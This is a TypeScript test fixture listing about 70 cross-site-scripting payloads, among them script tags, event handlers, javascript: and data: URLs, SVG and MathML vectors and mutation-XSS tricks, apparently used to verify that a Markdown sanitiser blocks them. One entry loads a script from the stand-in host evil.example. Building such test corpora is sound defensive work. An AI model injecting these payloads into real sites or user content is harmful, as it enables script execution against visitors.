/**
 * Hostile rich text, as a CMS editor (or whoever holds their account) could write it. Every payload,
 * if it ran, would do at least one of: open a dialog, log `XSS_MARKER`, set `window.__xssFired`, or
 * call `xss()` (the end-to-end spec defines it to do the other two). Rendered through SafeMarkdown,
 * none may run, and none may leave an event handler, a script URL or a dangerous element in the DOM.
 */
export type XssPayload = { name: string; source: string };

const B64_SCRIPT_PAGE = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='; // <script>alert(1)</script>
const B64_SVG_ONLOAD = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='; // <svg ... onload="alert(1)"/>

export const XSS_CORPUS: readonly XssPayload[] = [
  // Script elements
  { name: 'script tag', source: '<script>xss()</script>' },
  { name: 'script tag inside a paragraph', source: 'Hello <script>alert(1)</script> world' },
  { name: 'upper-case external script', source: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'split script tag', source: '<scr<script>ipt>xss()</scr</script>ipt>' },
  { name: 'script in a template', source: '<template><script>xss()</script></template>' },
  { name: 'script after a Markdown heading', source: '# Title\n\n<script>window.__xssFired=1</script>' },

  // Event handlers
  { name: 'img onerror', source: '<img src=x onerror=xss()>' },
  { name: 'img onerror, quoted', source: '<img src="x" onerror="alert(1)">' },
  { name: 'img onerror with entity-encoded code', source: '<img src="x" onerror="&#x78;ss()">' },
  { name: 'svg onload', source: '<svg onload=xss()>' },
  { name: 'body onload', source: '<body onload=xss()>' },
  { name: 'input autofocus onfocus', source: '<input autofocus onfocus=xss()>' },
  { name: 'details ontoggle', source: '<details open ontoggle=xss()><summary>s</summary>x</details>' },
  { name: 'video source onerror', source: '<video><source onerror=xss()></video>' },
  { name: 'audio onerror', source: '<audio src=x onerror=xss()>' },
  { name: 'marquee onstart', source: '<marquee onstart=xss()>m</marquee>' },
  { name: 'div onmouseover', source: '<div onmouseover="xss()">hover me</div>' },
  { name: 'a onclick', source: '<a href="#" onclick="xss()">click</a>' },
  { name: 'isindex onerror', source: '<isindex type=image src=1 onerror=xss()>' },
  { name: 'Markdown around an inline handler', source: '**bold** <img src=x onerror=alert(1)> _em_' },

  // javascript:, vbscript: and data: URLs in links and images
  { name: 'a href javascript', source: '<a href="javascript:xss()">link</a>' },
  { name: 'a href mixed-case javascript', source: '<a href="JaVaScRiPt:xss()">link</a>' },
  { name: 'a href javascript with an entity tab', source: '<a href="java&#x09;script:xss()">link</a>' },
  { name: 'a href fully entity-encoded javascript', source: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()">link</a>' },
  { name: 'a href javascript after spaces', source: '<a href="  javascript:xss()">link</a>' },
  { name: 'a href javascript with a NUL byte', source: '<a href="java\u0000script:xss()">link</a>' },
  { name: 'a href vbscript', source: '<a href="vbscript:msgbox(1)">link</a>' },
  { name: 'a href data text/html', source: `<a href="data:text/html;base64,${B64_SCRIPT_PAGE}">link</a>` },
  { name: 'a href data text/html, plain', source: '<a href="data:text/html,<script>alert(1)</script>">link</a>' },
  { name: 'Markdown link javascript', source: '[link](javascript:xss())' },
  { name: 'Markdown link upper-case javascript', source: '[link](JAVASCRIPT:xss())' },
  { name: 'Markdown reference link javascript', source: '[click][ref]\n\n[ref]: javascript:xss()' },
  { name: 'Markdown autolink javascript', source: '<javascript:xss()>' },
  { name: 'Markdown image javascript', source: '![img](javascript:xss())' },
  { name: 'Markdown image data svg', source: `![img](data:image/svg+xml;base64,${B64_SVG_ONLOAD})` },
  { name: 'img src data svg', source: '<img src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;alert(1)&quot;/>">' },
  { name: 'img srcset javascript', source: '<img srcset="javascript:xss() 1x">' },
  { name: 'table background javascript', source: '<table background="javascript:xss()"><tr><td>x</td></tr></table>' },

  // SVG and MathML
  { name: 'svg script', source: '<svg><script>xss()</script></svg>' },
  { name: 'svg animate onbegin', source: '<svg><animate onbegin=xss() attributeName=x dur=1s></svg>' },
  { name: 'svg xlink:href javascript', source: '<svg><a xlink:href="javascript:xss()"><text x="20" y="20">click</text></a></svg>' },
  { name: 'svg set href to javascript', source: '<svg><a><set attributeName="href" to="javascript:xss()"/><text x="20" y="20">click</text></a></svg>' },
  { name: 'svg foreignObject iframe', source: '<svg><foreignObject><iframe onload=xss()></iframe></foreignObject></svg>' },
  { name: 'svg use data URL', source: `<svg><use href="data:image/svg+xml;base64,${B64_SVG_ONLOAD}#x"/></svg>` },
  { name: 'MathML maction xlink:href', source: '<math><maction actiontype="statusline" xlink:href="javascript:xss()">click</maction></math>' },
  { name: 'MathML href', source: '<math href="javascript:xss()"><mi>x</mi></math>' },

  // Embedding and page-level elements
  { name: 'iframe javascript', source: '<iframe src="javascript:xss()"></iframe>' },
  { name: 'iframe srcdoc', source: '<iframe srcdoc="<script>parent.xss()</script>"></iframe>' },
  { name: 'object data', source: '<object data="javascript:xss()"></object>' },
  { name: 'embed src', source: '<embed src="javascript:xss()">' },
  { name: 'style element', source: "<style>@import 'javascript:xss()';body{background:url(javascript:xss())}</style>" },
  { name: 'style attribute url', source: '<div style="background-image:url(javascript:xss())">styled</div>' },
  { name: 'base href', source: '<base href="javascript:xss()//"><a href="relative">relative</a>' },
  { name: 'form action', source: '<form action="javascript:xss()"><button>go</button></form>' },
  { name: 'button formaction', source: '<button formaction="javascript:xss()">go</button>' },
  { name: 'meta refresh', source: '<meta http-equiv="refresh" content="0;url=javascript:xss()">' },
  { name: 'link import', source: `<link rel="import" href="data:text/html;base64,${B64_SCRIPT_PAGE}">` },

  // Attribute breakouts
  { name: 'title attribute breakout', source: `<a title='"><img src=x onerror=xss()>'>t</a>` },
  { name: 'alt attribute breakout', source: '<img src="/images/logo.svg" alt="\\"><script>xss()</script>">' },
  { name: 'bare breakout', source: '"><script>xss()</script>' },
  { name: 'unquoted attribute breakout', source: '<a href=/x title=a onmouseover=xss()>t</a>' },
  { name: 'comment breakout', source: '<!--<img src="--><img src=x onerror=xss()//">' },

  // Mutation XSS: markup that changes meaning when parsed again
  { name: 'noscript title', source: '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>' },
  { name: 'xmp title', source: '<xmp><p title="</xmp><img src=x onerror=xss()>">' },
  { name: 'svg style namespace confusion', source: '<svg></p><style><a id="</style><img src=1 onerror=xss()>">' },
  { name: 'math mtext mglyph style', source: '<math><mtext><table><mglyph><style><img src=x onerror=xss()>' },
  { name: 'form math nesting', source: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>' },
  { name: 'textarea title', source: '<textarea><p title="</textarea><img src=x onerror=xss()>"></textarea>' },
];
